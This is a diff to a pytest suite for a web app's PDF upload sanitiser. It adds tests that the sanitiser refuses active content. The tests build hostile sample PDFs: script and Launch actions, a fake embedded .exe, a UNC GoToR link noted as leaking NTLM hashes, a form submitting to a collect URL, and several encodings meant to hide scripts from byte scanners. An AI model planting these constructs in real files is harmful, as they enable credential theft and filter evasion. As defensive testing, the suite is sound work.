@@ -11,6 +11,7 @@ import struct
 import tracemalloc
 import zlib
 
+import pikepdf
 import pypdfium2
 import pypdfium2.raw as pdfium_c
 import pytest
@@ -19,6 +20,7 @@ from django.test import override_settings
 from django.utils import translation
 from django.utils.functional import Promise
 from fpdf import FPDF
+from pikepdf import Array, Dictionary, Name, String
 from PIL import Image, ImageCms
 from PIL.PngImagePlugin import PngInfo
 
@@ -147,27 +149,30 @@ SCRIPT_OBJECTS = [
 ]
 
 
-def pdf_with_object_stream(objects, encode, filters):
-    """PDF 1.5 in which `objects` (numbered from 1, object 1 the catalog) all live in one object
+def pdf_with_object_stream(objects, encode, filters, *, plain=0):
+    """PDF 1.5 in which `objects` (numbered from 1, object 1 the catalog) live in one object
     stream, its data passed through `encode` and declared with `filters`, found through a
-    cross-reference stream: nothing but that stream's data shows what the objects say."""
+    cross-reference stream: nothing but that stream's data shows what the objects say. The first
+    `plain` objects are written outside it, as usual."""
+    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
+    rows = [struct.pack(">BIH", 0, 0, 65535)]
+    for number, body in enumerate(objects[:plain], 1):
+        rows.append(struct.pack(">BIH", 1, len(out), 0))
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    packed = objects[plain:]
+    object_stream_number, xref_number = len(objects) + 1, len(objects) + 2
     header, body = b"", b""
-    for number, obj in enumerate(objects, 1):
+    for number, obj in enumerate(packed, plain + 1):
         header += b"%d %d " % (number, len(body))
         body += obj + b"\n"
-    count = len(objects)
-    object_stream_number, xref_number = count + 1, count + 2
-    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
-    object_stream_offset = len(out)
-    data = encode(header + body)
+    rows += [struct.pack(">BIH", 2, object_stream_number, index) for index in range(len(packed))]
+    rows.append(struct.pack(">BIH", 1, len(out), 0))
+    dictionary = b"/Type /ObjStm /N %d /First %d /Filter %s" % (len(packed), len(header), filters)
     out += b"%d 0 obj\n" % object_stream_number
-    out += stream(data, b"/Type /ObjStm /N %d /First %d /Filter %s" % (count, len(header), filters))
+    out += stream(encode(header + body), dictionary)
     out += b"\nendobj\n"
     xref_offset = len(out)
-    rows = [struct.pack(">BIH", 0, 0, 65535)]
-    rows += [struct.pack(">BIH", 2, object_stream_number, index) for index in range(count)]
-    rows += [struct.pack(">BIH", 1, object_stream_offset, 0)]
-    rows += [struct.pack(">BIH", 1, xref_offset, 0)]
+    rows.append(struct.pack(">BIH", 1, xref_offset, 0))
     dictionary = b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % (xref_number + 1)
     out += b"%d 0 obj\n%s\nendobj\n" % (xref_number, stream(b"".join(rows), dictionary))
     out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
@@ -286,8 +291,8 @@ def test_a_file_over_the_limit_is_refused():
     assert message.endswith(" MB.")
 
 
-def test_the_limit_defaults_to_ten_megabytes(settings):
-    del settings.SIGNAAL_MAX_ATTACHMENT_BYTES
+def test_the_limit_defaults_to_ten_megabytes():
+    # config/settings.py's default; the test run does not set SIGNAAL_MAX_ATTACHMENT_MB
     assert sanitise.max_bytes() == 10 * 1024 * 1024
 
 
@@ -623,29 +628,72 @@ def test_a_script_hidden_in_a_compressed_object_stream_is_refused(encode, filter
     rejected(document, PDF_ACTIVE)
 
 
-SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
-HEX_SCRIPT = zlib.compress(SCRIPT).hex().encode()
+def png_up(data, columns):
+    """Data with the PNG "Up" predictor applied (each row as its difference from the one above),
+    as /DecodeParms << /Predictor 12 /Columns n >> declares."""
+    previous, out = bytes(columns), bytearray()
+    for start in range(0, len(data), columns):
+        row = data[start : start + columns].ljust(columns, b" ")
+        out += b"\x02" + bytes((a - b) & 0xFF for a, b in zip(row, previous, strict=True))
+        previous = row
+    return bytes(out)
+
+
+def run_length(data, run=5):
+    """RunLengthDecode data made of literal runs of `run` bytes: a name longer than that is split
+    by a length byte in the raw file."""
+    out = bytearray()
+    for start in range(0, len(data), run):
+        chunk = data[start : start + run]
+        out += bytes([len(chunk) - 1]) + chunk
+    return bytes(out + b"\x80")
 
 
 @pytest.mark.parametrize(
-    ("data", "filters"),
+    ("encode", "filters"),
+    [
+        (
+            lambda data: zlib.compress(png_up(data, 8)),
+            b"/Fl /DecodeParms << /Predictor 12 /Columns 8 >>",
+        ),
+        (run_length, b"/RL"),
+    ],
+    ids=["flate-with-predictor", "run-length"],
+)
+def test_a_script_in_an_object_stream_the_byte_scanner_could_not_read_is_refused(encode, filters):
+    # The byte scanner that came before qpdf accepted both: it did not undo PNG predictors, and it
+    # neither decoded run-length data nor knew the filter's short name /RL.
+    document = pdf_with_object_stream(SCRIPT_OBJECTS, encode, filters)
+    assert script_count(document) == 1  # PDFium reads and would run the script
+    assert b"JavaScript" not in document
+    rejected(document, PDF_ACTIVE)
+
+
+SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
+
+
+@pytest.mark.parametrize(
+    ("encode", "filters"),
     [
         # hex digits of either case, spread over lines
-        (HEX_SCRIPT[:40].upper() + b"\n" + HEX_SCRIPT[40:] + b">", b"[/AHx /Fl]"),
-        (base64.a85encode(zlib.compress(SCRIPT), adobe=True), b"[/A85 /Fl]"),  # framed in <~ ~>
-        (base64.a85encode(bytes(8) + SCRIPT) + b"~>", b"/A85"),  # zeros written as "z"
-        # longer than a chunk read at once, with "z" before the boundary
         (
-            base64.a85encode(bytes(4004) + random.Random(3).randbytes(70_000) + SCRIPT) + b"~>",
-            b"/A85",
+            lambda data: (lambda h: h[:40].upper() + b"\n" + h[40:] + b">")(
+                zlib.compress(data).hex().encode()
+            ),
+            b"[/AHx /Fl]",
         ),
-        # a group out of range (readers wrap it around) after whole groups of the script
-        (base64.a85encode(zlib.compress(SCRIPT).ljust(48, b"\0")) + b"uuuuu~>", b"[/A85 /Fl]"),
+        (lambda data: base64.a85encode(data + bytes(8)) + b"~>", b"/A85"),  # zeros written as z
+        # a group out of range (readers wrap it around) after whole groups of the objects
+        (
+            lambda data: base64.a85encode(zlib.compress(data).ljust(4 * 200, b"\0")) + b"uuuuu~>",
+            b"[/A85 /Fl]",
+        ),
     ],
-    ids=["hex-lines", "a85-framed", "a85-z", "a85-long", "a85-overflow"],
+    ids=["hex-lines", "a85-z", "a85-overflow"],
 )
-def test_ascii_encoded_streams_are_decoded(data, filters):
-    document = simple_pdf(extra_objects=[stream(data, b"/Filter " + filters)])
+def test_ascii_encoded_object_streams_are_decoded(encode, filters):
+    document = pdf_with_object_stream(SCRIPT_OBJECTS, encode, filters)
+    assert script_count(document) == 1
     assert b"JavaScript" not in document
     rejected(document, PDF_ACTIVE)
 
@@ -655,38 +703,46 @@ def test_a_harmless_object_stream_is_accepted():
     for encode, filters in [
         (zlib.compress, b"/FlateDecode"),
         (lambda data: base64.a85encode(zlib.compress(data)) + b"~>", b"[/A85 /Fl]"),
+        (run_length, b"/RunLengthDecode"),  # the byte scanner refused it, unable to look inside
     ]:
         document = pdf_with_object_stream(objects, encode, filters)
         assert script_count(document) == 0
         assert accepted(document, "application/pdf") == document
 
 
-def test_a_script_in_a_damaged_flate_stream_is_still_found():
-    # Readers show what they could decode before the damage, so the scan must see it too.
+def flate_damaged_after(data):
+    """`data` deflated, followed by a stored block whose length does not check out."""
     compressor = zlib.compressobj(9)
-    script = compressor.compress(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>\n")
-    script += compressor.flush(zlib.Z_FULL_FLUSH)
-    rest = compressor.compress(b"0 0 0 rg\n" * 100) + compressor.flush()
-    damaged = script + bytes(8) + rest  # a stored block whose length does not check out
+    start = compressor.compress(data) + compressor.flush(zlib.Z_FULL_FLUSH)
+    damaged = start + bytes(8) + compressor.compress(b" " * 1000) + compressor.flush()
     with pytest.raises(zlib.error, match="invalid stored block lengths"):
         zlib.decompress(damaged)
-    document = simple_pdf(extra_objects=[stream(damaged, b"/Filter /FlateDecode")])
-    assert b"JavaScript" not in document
-    rejected(document, PDF_ACTIVE)
+    return damaged
 
 
-def test_a_name_at_the_very_end_of_a_stream_is_found():
-    document = simple_pdf(extra_objects=[stream(zlib.compress(b"/S /JavaScript"), b"/Filter /Fl")])
-    assert b"JavaScript" not in document
-    rejected(document, PDF_ACTIVE)
+def test_a_damaged_object_stream_with_a_script_is_refused():
+    # PDFium shows what it could decode before the damage, script included; qpdf does not read
+    # the damaged object stream, so the file cannot be checked.
+    document = pdf_with_object_stream(SCRIPT_OBJECTS, flate_damaged_after, b"/FlateDecode")
+    assert script_count(document) == 1
+    rejected(document, sanitise.PDF_UNCHECKABLE)
 
 
-def test_a_script_deep_inside_a_large_stream_is_found():
-    # Far into the stream, and split over two decoded chunks ("/Java" + "Script").
-    for position in (30 * 1024 * 1024, 4 * 65536 - 5):
-        data = zlib.compress(bytes(position) + b"/JavaScript " + bytes(1000), 9)
-        document = simple_pdf(extra_objects=[stream(data, b"/Filter /FlateDecode")])
-        rejected(document, PDF_ACTIVE)
+def test_a_script_deep_inside_a_large_object_stream_is_found():
+    filler = b"<< /Names [(hello) 5 0 R] /Filler (" + b"x" * (30 * 1024 * 1024) + b") >>"
+    objects = [*SCRIPT_OBJECTS[:3], filler, SCRIPT_OBJECTS[4]]  # the script comes after 30 MB
+    rejected(pdf_with_object_stream(objects, zlib.compress, b"/FlateDecode"), PDF_ACTIVE)
+
+
+def test_names_in_the_data_of_a_stream_are_not_active_content():
+    # Text on a page, or any stream's data, is not read as objects: the byte scanner refused it.
+    words = b"(Zet /JavaScript uit, /Launch niets en open geen /EmbeddedFiles /JS \\(x\\)) Tj"
+    for data, dictionary in [
+        (zlib.compress(b"BT /F1 12 Tf 10 100 Td " + words + b" ET"), b"/Filter /FlateDecode"),
+        (b"/S /JavaScript /JS (app.alert\\(1\\))", b""),
+    ]:
+        document = simple_pdf(extra_objects=[stream(data, dictionary)])
+        assert accepted(document, "application/pdf") == document
 
 
 def test_a_large_harmless_stream_is_accepted():
@@ -715,13 +771,43 @@ def test_a_compression_bomb_is_refused_without_using_much_memory():
     assert peak < 16 * 1024 * 1024
 
 
+def test_a_script_in_an_object_stream_too_large_to_decode_is_refused():
+    # The catalog and pages are ordinary objects; the script hangs in an object stream padded to
+    # 150 MB. qpdf stops decoding it at the limit (and would not see the script); PDFium does not.
+    def padded(data):
+        compressor = zlib.compressobj(9)
+        spaces = b" " * (1024 * 1024)
+        body = b"".join(compressor.compress(spaces) for _ in range(150))
+        return compressor.compress(data) + body + compressor.flush()
+
+    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
+    objects = [catalog, *PAGES, SCRIPT]
+    document = pdf_with_object_stream(objects, padded, b"/FlateDecode", plain=3)
+    assert len(document) < 1024 * 1024
+    assert b"JavaScript" not in document
+    rejected(document, sanitise.PDF_UNCHECKABLE)
+
+
 def test_a_pdf_full_of_stream_keywords_is_refused_quickly():
     rejected(b"%PDF-1.4\n" + b"stream\nx\x9c" * 200_000, sanitise.PDF_UNCHECKABLE)
 
 
-def test_a_pdf_using_a_filter_that_cannot_be_looked_into_is_refused():
-    document = simple_pdf(extra_objects=[stream(b"\x80\x0b\x60\x50\x22", b"/Filter /LZWDecode")])
-    rejected(document, sanitise.PDF_UNCHECKABLE)
+def test_damaged_stream_data_is_accepted_but_not_in_an_object_stream():
+    # Readers show what they can of a damaged picture or page; the objects of a damaged object
+    # stream cannot be checked.
+    damaged = flate_damaged_after(b"0 0 0 rg\n" * 100)
+    document = simple_pdf(extra_objects=[stream(damaged, b"/Filter /FlateDecode")])
+    assert accepted(document, "application/pdf") == document
+    dictionary = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
+    rejected(simple_pdf(extra_objects=[stream(damaged, dictionary)]), sanitise.PDF_UNCHECKABLE)
+    # The byte scanner refused any LZW data, unable to decode it; qpdf decodes it.
+    document = simple_pdf(extra_objects=[stream(b"\x80\x0b\x60\x50\x22", b"/Filter /LZW")])
+    assert accepted(document, "application/pdf") == document
+
+
+def test_a_pdf_qpdf_cannot_read_is_refused():
+    for data in [b"%PDF-1.7\n", b"%PDF-1.4\n" + random.Random(2).randbytes(5000)]:
+        rejected(data, sanitise.PDF_UNCHECKABLE)
 
 
 def test_an_encrypted_pdf_is_refused():
@@ -739,5 +825,190 @@ def test_a_pdf_encrypted_without_a_user_password_is_refused_too():
 
 
 def test_an_encrypt_entry_written_with_escapes_is_recognised():
-    document = simple_pdf(trailer=b"/Encr#79pt 4 0 R")
+    buffer = io.BytesIO()
+    with pikepdf.new() as pdf:
+        pdf.add_blank_page()
+        pdf.save(buffer, encryption=pikepdf.Encryption(owner="eigenaar", user="", R=4))
+    document = buffer.getvalue().replace(b"/Encrypt", b"/Encr#79pt")
+    assert document.count(b"/Encr#79pt") == 1
     rejected(document, sanitise.PDF_ENCRYPTED)
+
+
+# --- PDFs built with pikepdf: every place an action can hang --------------------------------------
+
+
+def made_with_pikepdf(build):
+    """A one-page PDF that `build(pdf, page)` adds to, saved as modern writers do: every object
+    in compressed object streams, so the raw bytes show none of the names."""
+    buffer = io.BytesIO()
+    with pikepdf.new() as pdf:
+        pdf.add_blank_page(page_size=(200, 200))
+        build(pdf, pdf.pages[0].obj)
+        pdf.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+    document = buffer.getvalue()
+    assert b"/Type /ObjStm" in document
+    assert b"/Catalog" not in document  # compressed
+    return document
+
+
+def action(kind, **entries):
+    return Dictionary(Type=Name.Action, S=Name(f"/{kind}"), **entries)
+
+
+def script():
+    return action("JavaScript", JS=String("app.alert(1)"))
+
+
+def annotation(pdf, page, subtype, **entries):
+    annot = pdf.make_indirect(
+        Dictionary(Type=Name.Annot, Subtype=Name(f"/{subtype}"), Rect=[10, 10, 60, 30], **entries)
+    )
+    page.Annots = Array([*page.get("/Annots", []), annot])
+    return annot
+
+
+def outline_item(pdf, **entries):
+    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
+    item = pdf.make_indirect(Dictionary(Title=String("Hoofdstuk 1"), Parent=outlines, **entries))
+    outlines.First = outlines.Last = item
+    pdf.Root.Outlines = outlines
+
+
+def form_field(pdf, page, **widget_entries):
+    """A text field whose widget is a kid of a parent field, on the page."""
+    parent = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("naam")))
+    widget = annotation(pdf, page, "Widget", Parent=parent, **widget_entries)
+    parent.Kids = Array([widget])
+    pdf.Root.AcroForm = Dictionary(Fields=Array([parent]))
+
+
+def embedded_file(pdf):
+    return pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="factuur.exe").obj
+
+
+ACTIVE_PLACES = {
+    "catalog-open-action": lambda pdf, page: setattr(pdf.Root, "OpenAction", script()),
+    "catalog-additional-action": lambda pdf, page: setattr(pdf.Root, "AA", Dictionary(WC=script())),
+    "page-additional-action": lambda pdf, page: setattr(page, "AA", Dictionary(O=script())),
+    "link-annotation": lambda pdf, page: annotation(pdf, page, "Link", A=script()),
+    "annotation-additional-action": lambda pdf, page: annotation(
+        pdf, page, "Square", AA=Dictionary(E=script())
+    ),
+    "form-field-kid": lambda pdf, page: form_field(pdf, page, AA=Dictionary(K=script())),
+    "outline-item": lambda pdf, page: outline_item(pdf, A=action("Launch", F=String("calc.exe"))),
+    "next-chain": lambda pdf, page: setattr(
+        pdf.Root, "OpenAction", action("GoTo", D=Array([page, Name.Fit]), Next=Array([script()]))
+    ),
+    "script-in-a-stream": lambda pdf, page: setattr(
+        pdf.Root, "OpenAction", action("JavaScript", JS=pdf.make_stream(b"app.alert(1)"))
+    ),
+    "rendition-with-script": lambda pdf, page: setattr(
+        pdf.Root, "OpenAction", action("Rendition", JS=String("app.alert(1)"))
+    ),
+    "name-tree-javascript": lambda pdf, page: setattr(
+        pdf.Root,
+        "Names",
+        Dictionary(JavaScript=Dictionary(Names=Array([String("a"), pdf.make_indirect(script())]))),
+    ),
+    "embedded-files": lambda pdf, page: pdf.attachments.__setitem__(
+        "factuur.exe", pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="factuur.exe")
+    ),
+    "file-attachment-annotation": lambda pdf, page: annotation(
+        pdf, page, "FileAttachment", FS=embedded_file(pdf)
+    ),
+    "associated-file": lambda pdf, page: setattr(page, "AF", Array([embedded_file(pdf)])),
+    "xfa-form": lambda pdf, page: setattr(
+        pdf.Root, "AcroForm", Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
+    ),
+    "launch": lambda pdf, page: setattr(page, "AA", Dictionary(C=action("Launch"))),
+    # opening \\server\share\x.pdf sends the Windows login (NTLM hash) to that server
+    "remote-go-to": lambda pdf, page: annotation(
+        pdf, page, "Link", A=action("GoToR", F=String("\\\\192.0.2.1\\share\\x.pdf"), D=Array([0]))
+    ),
+    "embedded-go-to": lambda pdf, page: setattr(
+        pdf.Root, "OpenAction", action("GoToE", T=Dictionary(R=Name.C, N=String("a")))
+    ),
+    "submit-form": lambda pdf, page: form_field(
+        pdf, page, A=action("SubmitForm", F=String("https://example.org/collect"))
+    ),
+    "import-data": lambda pdf, page: annotation(pdf, page, "Link", A=action("ImportData")),
+    "sound-action": lambda pdf, page: annotation(pdf, page, "Link", A=action("Sound")),
+    "script-action-without-script": lambda pdf, page: setattr(
+        pdf.Root, "OpenAction", action("JavaScript")
+    ),
+    "empty-script-name-tree": lambda pdf, page: setattr(
+        pdf.Root, "Names", Dictionary(JavaScript=Dictionary(Names=Array([])))
+    ),
+    "rendition-action": lambda pdf, page: annotation(pdf, page, "Link", A=action("Rendition")),
+    "movie-action": lambda pdf, page: annotation(pdf, page, "Link", A=action("Movie")),
+    "rich-media-execute": lambda pdf, page: annotation(
+        pdf, page, "Link", A=action("RichMediaExecute")
+    ),
+    "rich-media": lambda pdf, page: annotation(pdf, page, "RichMedia"),
+    "movie": lambda pdf, page: annotation(pdf, page, "Movie"),
+    "screen": lambda pdf, page: annotation(pdf, page, "Screen"),
+    "3d": lambda pdf, page: annotation(pdf, page, "3D"),
+}
+
+
+@pytest.mark.parametrize("build", ACTIVE_PLACES.values(), ids=ACTIVE_PLACES.keys())
+def test_active_content_is_found_wherever_it_is(build):
+    document = made_with_pikepdf(build)
+    assert b"/S " not in document and b"/JS" not in document  # only inside the object streams
+    rejected(document, PDF_ACTIVE)
+
+
+HARMLESS_PLACES = {
+    "web-link": lambda pdf, page: annotation(
+        pdf, page, "Link", A=action("URI", URI=String("https://www.example.org/"))
+    ),
+    "go-to-page": lambda pdf, page: setattr(pdf.Root, "OpenAction", Array([page, Name.FitH, 200])),
+    "outline-item": lambda pdf, page: outline_item(
+        pdf, A=action("GoTo", D=Array([page, Name.Fit]))
+    ),
+    "named-action": lambda pdf, page: annotation(
+        pdf, page, "Link", A=action("Named", N=Name.NextPage)
+    ),
+    "form-field": lambda pdf, page: form_field(pdf, page),
+    "note": lambda pdf, page: annotation(pdf, page, "Text", Contents=String("/JavaScript /Launch")),
+}
+
+
+@pytest.mark.parametrize("build", HARMLESS_PLACES.values(), ids=HARMLESS_PLACES.keys())
+def test_ordinary_links_forms_and_notes_are_accepted(build):
+    document = made_with_pikepdf(build)
+    assert accepted(document, "application/pdf") == document
+
+
+def test_an_object_nothing_refers_to_is_checked_too():
+    # A reader repairing a damaged file may find it; the byte scanner refused it too.
+    rejected(simple_pdf(extra_objects=[SCRIPT]), PDF_ACTIVE)
+
+
+def test_an_object_nested_past_the_parsers_limit_is_refused():
+    # qpdf drops an object nested deeper than it parses (a warning, no error); a script inside
+    # would go unseen.
+    deep = b"[" * 600 + SCRIPT + b"]" * 600
+    rejected(simple_pdf(extra_objects=[deep]), sanitise.PDF_UNCHECKABLE)
+    rejected(simple_pdf(b"/Extra " + deep), sanitise.PDF_UNCHECKABLE)  # in the catalog
+
+
+def test_an_embedded_file_is_found_by_either_of_its_marks():
+    # /Type /EmbeddedFile is optional on the file's stream; the file specification's /EF is not.
+    untyped = stream(b"MZ\x90\x00")
+    spec = b"<< /Type /Filespec /F (factuur.exe) /EF << /F 4 0 R >> >>"
+    annotation = b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >>"
+    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [6 0 R] >>"
+    catalog = b"<< /Type /Catalog /Pages 2 0 R >>"
+    document = build_pdf([catalog, PAGES[0], page, untyped, spec, annotation])
+    rejected(document, PDF_ACTIVE)
+    # and a file's stream on its own
+    rejected(simple_pdf(extra_objects=[stream(b"MZ", b"/Type /EmbeddedFile")]), PDF_ACTIVE)
+
+
+def test_streams_that_decode_past_the_limit_together_are_refused():
+    half = zlib.compress(bytes(60 * 1024 * 1024), 9)  # each within the limit, not both
+    one = simple_pdf(extra_objects=[stream(half, b"/Filter /FlateDecode")])
+    assert check(upload(one)) == "application/pdf"
+    two = simple_pdf(extra_objects=[stream(half, b"/Filter /FlateDecode")] * 2)
+    rejected(two, sanitise.PDF_UNCHECKABLE)
